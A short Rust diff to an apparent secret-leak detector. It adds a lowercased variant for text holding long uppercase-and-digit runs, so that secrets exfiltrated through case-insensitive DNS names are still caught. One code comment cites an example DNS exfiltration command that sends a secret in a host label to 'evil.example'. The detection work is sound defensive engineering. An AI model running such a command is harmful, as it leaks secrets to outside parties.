@@ -147,6 +147,11 @@ fn variants(fields: &[SinkField], key: u64) -> Vec<Variant> {
     let limits = Limits::default();
     for f in fields {
         out.push(variant(&f.path, &f.text, "plain".into(), key));
+        // DNS names are case-insensitive: a secret sent uppercased in a host label
+        // (`nslookup Q8ZR3KT9....evil.example`) meets the lowercased windows recorded with it.
+        if has_uppercased_run(&f.text) {
+            out.push(variant(&f.path, &f.text.to_ascii_lowercase(), "uppercased".into(), key));
+        }
         let decoded = decode::decode_all(&f.text, &limits);
         let mut bulk = Vec::new();
         for (text, enc) in std::iter::once((f.text.as_str(), "plain"))
@@ -162,6 +167,24 @@ fn variants(fields: &[SinkField], key: u64) -> Vec<Variant> {
         out.extend(bulk);
     }
     out
+}
+
+/// A run of 8 or more uppercase letters and digits, with both in it (not a constant's name).
+fn has_uppercased_run(text: &str) -> bool {
+    let (mut run, mut letters, mut digits) = (0, false, false);
+    for b in text.bytes() {
+        if b.is_ascii_uppercase() || b.is_ascii_digit() {
+            run += 1;
+            letters |= b.is_ascii_uppercase();
+            digits |= b.is_ascii_digit();
+            if run >= 8 && letters && digits {
+                return true;
+            }
+        } else {
+            (run, letters, digits) = (0, false, false);
+        }
+    }
+    false
 }
 
 fn provenance(view: &SessionView, source_id: i64) -> String {
